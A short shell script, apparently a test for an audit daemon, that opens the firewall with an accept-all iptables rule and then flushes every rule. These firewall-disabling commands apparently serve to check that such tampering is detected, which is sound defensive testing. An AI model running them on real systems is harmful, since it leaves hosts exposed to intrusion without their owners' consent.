#!/bin/sh
# A hole in the firewall, then no firewall.
[ /init -ef /usr/sbin/auditd ] || exit 77
sh -c 'iptables -I INPUT -j ACCEPT; :'
sh -c 'iptables -F; :'
